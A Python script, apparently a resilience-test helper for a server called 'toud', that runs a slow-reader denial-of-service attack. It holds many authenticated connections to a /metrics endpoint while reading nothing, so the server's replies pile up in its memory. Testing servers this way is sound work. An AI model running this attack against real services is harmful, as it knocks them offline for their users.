#!/usr/bin/env python3
"""metrics-reader.py HOST PORT TOKEN N SECONDS: the slow scraper attack.

N connections to the metrics endpoint, each sending a request for the
whole text (with the token, so the largest reply) and then reading
nothing; held SECONDS, then closed.  Prints "connected K of N" once every
connection was tried (refused ones, or those the server closed, count as
tried), and "done".
"""
import socket
import sys
import time


def main():
    host, port, token = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    n, hold = int(sys.argv[4]), float(sys.argv[5])
    req = ("GET /metrics HTTP/1.1\r\nHost: %s:%d\r\nAuthorization: Bearer %s\r\n\r\n"
           % (host, port, token)).encode()
    socks, ok = [], 0
    for _ in range(n):
        s = socket.socket()
        # a small receive buffer: the reply stays in toud, not in the kernel
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        s.settimeout(10)
        try:
            s.connect((host, port))
            s.sendall(req)
            ok += 1
        except OSError:
            pass
        socks.append(s)
    print("connected %d of %d" % (ok, n), flush=True)
    time.sleep(hold)
    for s in socks:
        s.close()
    print("done", flush=True)


if __name__ == "__main__":
    main()
